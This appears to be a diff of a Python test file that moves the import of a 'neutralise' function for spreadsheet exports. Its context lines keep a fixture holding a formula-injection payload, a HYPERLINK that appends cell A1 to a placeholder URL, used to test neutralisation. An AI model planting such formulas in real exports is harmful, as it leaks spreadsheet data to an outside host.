@@ -8,14 +8,10 @@ import pytest
 from openpyxl import load_workbook
 from test_export_support import build, publish
 
-from plantrack.observations.export import (
-    SDMX_COLUMNS,
-    export_bytes,
-    neutralise,
-    select_observations,
-)
+from plantrack.observations.export import SDMX_COLUMNS, export_bytes, select_observations
 from plantrack.observations.models import Observation
 from plantrack.plans.models import Plan
+from plantrack.tabular.writers import neutralise
 
 FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"Xem nguồn")'
 MINUS_TEXT = "-2,5 theo báo cáo"
